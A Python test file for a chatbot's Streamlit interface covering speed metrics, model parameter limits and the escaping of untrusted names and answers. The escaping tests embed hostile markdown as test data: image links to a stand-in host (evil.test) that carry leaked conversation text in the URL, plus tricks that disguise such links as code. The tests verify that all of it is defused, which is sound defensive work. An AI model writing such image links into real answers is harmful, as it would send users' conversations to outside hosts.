from __future__ import annotations

import re

from chatbot.api.catalog import ModelInfo
from chatbot.models.events import Metrics, Usage
from streamlit_app.formatting import WORD_JOINER, answer_figures, answer_markdown, as_plain_text, live_figures
from streamlit_app.live import LiveFigures
from streamlit_app.widgets.model_settings import ParameterBounds
from tests.streamlit_app.markup import literal_autolinks, live_markup


def test_an_answers_figures_read_as_words():
    metrics = Metrics(ttft_ms=190.3, tokens_per_s=40.04, total_ms=365)
    assert answer_figures(metrics, Usage(completion_tokens=8)) == "TTFT 0.19 s · 40.0 tokens/s · 8 tokens"
    assert answer_figures(metrics, Usage(completion_tokens=3), "stopped").endswith("3 tokens · stopped")
    assert answer_figures(None, None) == ""


def test_live_figures_wait_for_the_first_token():
    assert live_figures(LiveFigures(None, 0, None)) == "waiting for the first token…"
    assert live_figures(LiveFigures(0.25, 12, 48.0)) == "TTFT 0.25 s · 48.0 tokens/s · 12 tokens"


def model(name: str, limit: int, window: int = 2048, **defaults) -> ModelInfo:
    return ModelInfo(
        name=name,
        model_id=name,
        task="chat",
        streaming="native",
        context_window=window,
        max_new_tokens_limit=limit,
        default_parameters=defaults,
    )


def test_parameter_bounds_are_the_tightest_of_the_models_in_use():
    bounds = ParameterBounds.of([model("big", 1024, max_new_tokens=512), model("small", 256)])
    assert bounds.max_new_tokens_limit == 256
    assert bounds.default_max_new_tokens == 256  # the first model's default, cut to what all accept


def test_defaults_outside_the_sliders_are_brought_inside():
    bounds = ParameterBounds.of([model("m", 100, window=64, temperature=5, top_p=0)])
    assert bounds.max_new_tokens_limit == 64  # never more than the context window
    assert (bounds.default_temperature, bounds.default_top_p) == (2.0, 0.05)


# -- untrusted text: as_plain_text (names, titles) and answer_markdown (answers) -----------------

HOSTILE_NAME = (
    "![pixel](http://evil.test/p.png?leak=1) [docs](http://evil.test/x) **bold** <img src=x> "
    "&lt;b&gt; $x^2$ :red[red] :smile: www.evil.test mail@evil.test\n# heading\n- item"
)


def test_a_name_from_someone_else_shows_as_the_text_it_is():
    shown = as_plain_text(HOSTILE_NAME)
    assert live_markup(shown) == []
    assert literal_autolinks(shown) == []  # GFM would link www.…, http://… and a@b even escaped
    assert "\n" not in shown  # no heading or list from a line break
    # What the reader sees is the name itself: markdown's escapes and the invisible word joiners
    # are all that was added.
    assert re.sub(r"\\(.)", r"\1", shown).replace(WORD_JOINER, "") == " ".join(HOSTILE_NAME.split())
    assert as_plain_text("report-2026_v2.pdf") == "report\\-2026\\_v2\\.pdf"


def test_an_answers_images_become_words_and_its_links_show_their_target():
    answer = (
        "Here: ![secret chart](http://evil.test/c.png?q=THE+CONVERSATION) and "
        '[click me](https://evil.test/x "title"), [angled](<http://evil.test/a b>), '
        "a reference ![r][ref] [also][ref], an escaped \\[not a link](x).\n\n[ref]: http://evil.test/r.png\n"
    )
    shown = answer_markdown(answer)
    assert live_markup(shown) == []
    assert "\\[image: secret chart\\] (h" in shown
    assert re.sub(r"\\(.)", r"\1", shown).replace(WORD_JOINER, "").count("(https://evil.test/x)") == 1
    assert "click me (" in shown


def test_code_in_an_answer_stays_as_written():
    answer = "Use `a[0]` or `![x](y)`:\n\n```python\nrows = table[1:]\nprint(f'![x]({url})')\n```\n\n    indented[0]\n"
    assert answer_markdown(answer) == answer


def test_what_only_looks_like_code_is_defused_all_the_same():
    tricks = [
        "\\`![a](http://evil.test/1.png)`",  # an escaped backtick opens no code span
        '<a title="`">![b](http://evil.test/2.png)`',  # a backtick inside an HTML tag
        "| `c | ![c](http://evil.test/3.png) `|\n|---|---|\n",  # a table cell ends at the pipe
        "- item\n   ```\n![d](http://evil.test/4.png)\n",  # the list, and its fence, end there
        "<div>\n```\n\n![e](http://evil.test/5.png)\n",  # an HTML block, not a fence
        "```\nx\n````\n![f](http://evil.test/6.png)\n",  # a longer fence closes the block
    ]
    for trick in tricks:
        assert live_markup(answer_markdown(trick)) == [], trick


def test_a_single_token_is_not_called_tokens():
    assert answer_figures(None, Usage(completion_tokens=1)) == "1 token"
    assert answer_figures(None, Usage(completion_tokens=0)) == "0 tokens"
    assert answer_figures(None, Usage(completion_tokens=None)) == "— tokens"
    assert live_figures(LiveFigures(0.25, 1, 4.0)) == "TTFT 0.25 s · 4.0 tokens/s · 1 token"
